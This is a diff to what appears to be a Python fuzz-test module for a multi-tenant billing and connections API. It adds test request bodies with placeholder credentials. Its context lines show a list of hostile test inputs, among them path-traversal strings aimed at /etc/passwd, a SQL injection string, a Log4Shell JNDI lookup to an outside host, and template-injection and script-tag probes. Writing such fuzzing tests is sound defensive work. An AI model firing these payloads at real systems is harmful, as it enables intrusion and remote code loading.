@@ -72,6 +72,13 @@ BODIES: dict[str, Any] = {
         "reason": "billed twice",
         "amountUsd": 0.1,
     },
+    "/api/connections": {
+        "tenantId": "acme-hvac",
+        "servicetitanTenantId": "1001",
+        "clientId": "cid.mine",
+        "clientSecret": "cs2.mine",
+    },
+    "/api/connections/{connectionId}": {"tenantId": "acme-hvac", "paused": True},
     "/api/keys": {"role": "tenant", "tenantId": "acme-hvac", "name": "office"},
     "/api/cost/budget/{tenantId}": {
         "dailyBudgetUsd": 10,
@@ -82,7 +89,7 @@ BODIES: dict[str, Any] = {
     "/api/cost/budget/{tenantId}/raises": {"dailyUsd": 1, "until": "2030-01-01T00:00:00Z", "reason": "storm"},
 }
 IDS = {"tenantId": "acme-hvac", "holdId": "2026-11.24.aaaaaaaaaaaa", "raiseId": "abcdefghijkl", "keyId": "abcdefghijkl",
-       "breakerId": "model:gpt-4o", "modelId": "gpt-4o"}  # fmt: skip
+       "breakerId": "model:gpt-4o", "modelId": "gpt-4o", "connectionId": "production-1001"}  # fmt: skip
 WORDS = [
     "", " ", "a" * 70_000, "\x00", "\ud83d", "\u202eevil", "../../etc/passwd", "%00", "%2e%2e%2f", "' OR '1'='1", "${jndi:ldap://e.org/a}",
     "{{7*7}}", "<script>", "TENANT#acme-hvac", "acme-hvac#x", "ACME-HVAC", "*", "null", "-1", "NaN", "1e999", "9" * 400, "2026-13-45",
